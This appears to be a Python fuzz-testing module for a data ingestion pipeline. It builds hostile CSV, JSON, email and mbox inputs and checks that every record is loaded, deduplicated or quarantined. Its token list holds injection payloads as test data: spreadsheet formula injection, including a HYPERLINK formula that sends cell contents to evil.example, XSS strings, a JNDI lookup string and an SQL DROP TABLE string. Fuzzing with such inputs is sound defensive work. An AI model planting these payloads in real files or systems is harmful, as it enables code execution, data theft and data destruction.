"""Hostile input for the fuzzing suites: hypothesis strategies for every file format the connectors read, random
mutations of valid files, and the check every fuzzed input must pass.

The check (``ingest_and_account``): reading and loading never raise; every record read is loaded, a
duplicate, or quarantined with a non-empty reason; an input whose batch a quality gate holds is held,
not lost.

Inputs that hit a known bug are left out here while it exists, because each has its own failing test in
``test_hostile_input.py`` (``KNOWN`` there). None are left out today: far dates whose UTC offset takes them
past year 1 or 9999, offsets beyond PostgreSQL's ±15:59 and JSON escapes of lone surrogates were known bugs
and are fuzzed again since they were fixed.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import random
from dataclasses import dataclass
from pathlib import Path

from hypothesis import strategies as st

from voc.pipeline.ingest import CONNECTORS, ingest_files

# -- strategies --------------------------------------------------------------------------------------------------

TOKENS = [
    "=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
    "</textarea><svg onload=alert(1)>", "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://x}", "\x00", "a\x00b",
    "\x01\x02\x07\x08\x0b\x0c\x1b[31m\x7f", "\u202e\u2066\u200b\ufeff", "\ud800", "\U0001f600\U0001f4a9",
    "'; DROP TABLE x;--",
    "", " ", "\r\n", "\n\n", '"', '""', ",", ";", "\\", "%s", "%(x)s", "NULL", "null", "NaN", "Infinity", "-0",
    "1e309", "9" * 40, "customer@example.com", "+44 20 7946 0958",
]
DATES = [
    "2026-10-01T10:00:00Z", "2026-10-01 10:00:00", "2026-10-01", "2026-10-01T10:00:00+14:00",
    "2026-10-01T10:00:00-12:00", "0001-01-01T00:00:00Z", "0001-01-01T00:00:00+00:00", "9999-12-31T23:59:59Z",
    "9999-12-31T23:59:59+00:00", "1970-01-01T00:00:00Z", "1900-02-29", "2026-02-30T10:00:00Z", "0000-00-00",
    "+275760-09-13T00:00:00Z", "-000001-01-01", "Tue, 20 Oct 2026 10:00:00 +0000", "Mon, 01 Jan 0001 00:00:00 +0000",
    "31/31/2026", "yesterday", "", "2026-10-01T25:61:61Z", "1" * 30,
    "0001-01-01T00:00:00+05:00", "9999-12-31T23:59:59-05:00", "2026-10-01T10:00:00+20:26",
    "Thu, 17 Oct 2002 13:54:27 +2026", "Mon, 01 Jan 0001 00:00:00 +0100",
]


def text(surrogates: bool = True) -> st.SearchStrategy[str]:
    """Short text: printable, control characters, lone surrogates, hostile tokens, or a mix of them."""
    chars = st.text(st.characters(codec=None if surrogates else "utf-8"), max_size=40)
    tokens = st.sampled_from([t for t in TOKENS if surrogates or t != "\ud800"])
    return st.one_of(chars, tokens, st.lists(st.one_of(tokens, chars), max_size=4).map("".join))


def date() -> st.SearchStrategy[str]:
    return st.one_of(st.sampled_from(DATES), text())


def scalar() -> st.SearchStrategy:
    return st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), text())


def json_value(max_leaves: int = 8) -> st.SearchStrategy:
    return st.recursive(scalar(), lambda children: st.one_of(
        st.lists(children, max_size=3), st.dictionaries(text(), children, max_size=3)), max_leaves=max_leaves)


def record(fields: dict[str, st.SearchStrategy]) -> st.SearchStrategy[dict]:
    """An object with the connector's fields (each hostile, or missing) and a few extra keys."""
    return st.fixed_dictionaries({}, optional=fields).flatmap(
        lambda base: st.dictionaries(text(), scalar(), max_size=2).map(lambda extra: {**extra, **base}))


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


def corrupt(data: bytes, cuts: list[tuple[int, bytes]]) -> bytes:
    """Insert byte strings (invalid UTF-8, NUL, ...) at the given positions."""
    for position, junk in sorted(cuts, reverse=True):
        position %= len(data) + 1
        data = data[:position] + junk + data[position:]
    return data


BAD_BYTES = st.sampled_from([b"\xff", b"\xfe\xff", b"\xc3\x28", b"\xe2\x82", b"\xed\xa0\x80", b"\x00", b"\x80",
                             b"\xef\xbb\xbf", b"\r", b"\n", b'"', b"\x1a"])


def with_bad_bytes(data: st.SearchStrategy[bytes]) -> st.SearchStrategy[bytes]:
    return st.tuples(data, st.lists(st.tuples(st.integers(0, 1 << 16), BAD_BYTES), max_size=3)).map(
        lambda pair: corrupt(*pair))


def csv_bytes(columns: list[str]) -> st.SearchStrategy[bytes]:
    """A CSV with the expected header (sometimes with a column more or less) and hostile rows."""
    header = st.one_of(st.just(columns), st.lists(st.one_of(st.sampled_from(columns), text()), min_size=1,
                                                  max_size=len(columns) + 1))
    rows = st.lists(st.lists(st.one_of(text(), date()), min_size=0, max_size=len(columns) + 2), max_size=5)

    def render(parts) -> bytes:
        head, body = parts
        out = io.StringIO()
        writer = csv.writer(out)
        writer.writerow(head)
        writer.writerows(body)
        return out.getvalue().encode("utf-8", "surrogatepass")

    return with_bad_bytes(st.tuples(header, rows).map(render))


def jsonl_bytes(objects: st.SearchStrategy, max_depth: int = 5_000) -> st.SearchStrategy[bytes]:
    line = st.one_of(objects.map(lambda o: json.dumps(o, ensure_ascii=False)), text(),
                     objects.map(json.dumps),  # \\uXXXX escapes (lone surrogates too), control characters
                     st.integers(1, max_depth).map(nested), objects.map(lambda o: json.dumps(o)[:-3]))
    return with_bad_bytes(st.lists(line, max_size=5).map(
        lambda lines: ("\n".join(lines) + "\n").encode("utf-8", "surrogatepass")))


def json_bytes(objects: st.SearchStrategy, key: str, max_depth: int = 5_000) -> st.SearchStrategy[bytes]:
    doc = st.one_of(st.lists(objects, max_size=5), st.lists(objects, max_size=5).map(lambda v: {key: v}),
                    json_value(), st.dictionaries(text(), st.lists(objects, max_size=2), max_size=3))
    text_doc = st.one_of(doc.map(lambda d: json.dumps(d, ensure_ascii=False)), st.integers(1, max_depth).map(nested),
                         doc.map(json.dumps),
                         doc.map(lambda d: json.dumps(d)[: max(1, len(json.dumps(d)) // 2)]))
    return with_bad_bytes(text_doc.map(lambda t: t.encode("utf-8", "surrogatepass")))


def header_line(name: str) -> st.SearchStrategy[bytes]:
    return text().map(lambda v: f"{name}: {v}".encode("utf-8", "surrogatepass"))


def email_bytes() -> st.SearchStrategy[bytes]:
    """An RFC 5322-ish message: hostile header values, charsets, encodings, multipart or not, body."""
    headers = st.lists(st.one_of(
        header_line("From"), header_line("Subject"), header_line("Message-ID"), header_line("Date"),
        header_line("In-Reply-To"), header_line("References"), header_line("Content-Language"),
        st.sampled_from([b"From: Ann <ann@example.com>", b"Message-ID: <m1@example.com>",
                         b"Date: Tue, 20 Oct 2026 10:00:00 +0000", b"Content-Type: text/html; charset=utf-8",
                         b"Content-Type: text/plain; charset=x-unknown", b"Content-Type: text/plain; charset=utf-16",
                         b"Content-Transfer-Encoding: base64", b"Content-Transfer-Encoding: quoted-printable",
                         b'Content-Type: multipart/mixed; boundary="b1"', b"Subject: =?utf-8?b?/w==?=",
                         b"Date: Mon, 01 Jan 0001 00:00:00 +0000"])), max_size=10)
    body = st.one_of(text().map(lambda t: t.encode("utf-8", "surrogatepass")),
                     st.just(b"--b1\nContent-Type: text/plain\n\nhello\n--b1--\n"), st.binary(max_size=200),
                     st.just(b"<html><body><script>alert(1)</script><p>hi</p></body></html>"))
    return with_bad_bytes(st.tuples(headers, body).map(lambda p: b"\n".join(p[0]) + b"\n\n" + p[1]))


def mbox_bytes() -> st.SearchStrategy[bytes]:
    return st.lists(email_bytes(), min_size=1, max_size=3).map(
        lambda messages: b"".join(b"From MAILER-DAEMON Tue Oct 20 10:00:00 2026\n" + m + b"\n\n" for m in messages))


# -- mutation fuzzing --------------------------------------------------------------------------------------------

def mutate(data: bytes, rng: random.Random, rounds: int = 3) -> bytes:
    """Apply a few random mutations: flip bytes, insert hostile tokens, delete, duplicate, truncate."""
    data = bytearray(data)
    for _ in range(rng.randint(1, rounds)):
        op = rng.choice(("flip", "insert", "delete", "duplicate", "truncate", "bad"))
        at = rng.randrange(len(data) + 1)
        if op == "flip" and data:
            data[min(at, len(data) - 1)] ^= 1 << rng.randrange(8)
        elif op == "insert":
            data[at:at] = rng.choice(TOKENS).encode("utf-8", "surrogatepass")
        elif op == "delete":
            del data[at:at + rng.randint(1, 64)]
        elif op == "duplicate":
            data[at:at] = data[at:at + rng.randint(1, 256)]
        elif op == "truncate":
            del data[at:]
        else:
            data[at:at] = rng.choice([b"\xff", b"\x00", b"\xc3\x28", b"\xed\xa0\x80"])
    return bytes(data)


# -- the check ---------------------------------------------------------------------------------------------------

_names = itertools.count()


def unique(prefix: str) -> str:
    return f"{prefix}_{next(_names)}"


@dataclass
class Accounted:
    read: int
    loaded: int
    duplicate: int
    quarantined: int
    held: bool = False


def convert_like_the_loader(kind: str, path: Path, source: str) -> int:
    """Read a file and take every record through the loader's steps before the database (``load._Chunk._convert``,
    identifiers, content hash, the quarantine's storable payload and bytes); return the records read.

    Cheap enough for every generated example; ``ingest_and_account`` loads a share of them for real. Any
    exception here would escape the loader and fail the whole batch. (Uses the loader's private helpers:
    update this mirror when they change.)"""
    from voc.pipeline import load
    from voc.pipeline.identity import customer_key, protect
    from voc.pipeline.ingest import to_items_for

    chunk = load._Chunk(cur=None, load_id=0, source=source, kind=kind, to_items=to_items_for(kind, source),
                        report=load.LoadReport(source=source, location=str(path)),
                        max_record_bytes=load.MAX_RECORD_BYTES)
    read = 0
    for record in CONNECTORS[kind].read(path):
        read += 1
        converted = chunk._convert(record)
        if isinstance(converted, str):
            load._storable(load._payload_json(record)), load._storable(record.location), load._original(record)
            continue
        json.dumps(record.payload, default=str)
        for item in converted[0]:
            load.content_hash(item, customer_key(protect(item["customer_ids"])))
    return read


def ingest_and_account(engine, kind: str, path: Path, source: str, mapping=None) -> Accounted:
    """Read and load one hostile file; assert that nothing raised and every record is accounted for."""
    records = list(CONNECTORS[kind].read(path))
    held = False
    try:
        reports = ingest_files(engine, kind, [path], source=source, mapping=mapping)
    except Exception as exc:
        if type(exc).__name__ != "BatchesHeld":  # held by a quality gate: staged, not lost
            raise
        reports, held = list(getattr(exc, "reports", [])), True
    [report] = reports
    assert report.read == len(records), (report, len(records))
    assert report.read == report.loaded + report.duplicate + report.quarantined, report
    with engine.connect() as conn:
        stored = set(conn.exec_driver_sql("SELECT record_hash FROM raw.record WHERE source = %s",
                                          (source,)).scalars())
        rejected = dict(conn.exec_driver_sql("SELECT record_hash, reason FROM raw.quarantine WHERE source = %s",
                                             (source,)).all())
    missing = [r for r in records if r.hash not in stored and r.hash not in rejected]
    assert len(missing) <= report.duplicate, f"{len(missing)} records neither stored nor quarantined: {missing[:2]}"
    assert all(reason and reason.strip() for reason in rejected.values())
    for r in records:
        if r.error:  # a record the reader could not parse is quarantined with the reader's reason
            assert r.hash in rejected, r
    return Accounted(report.read, report.loaded, report.duplicate, report.quarantined, held)
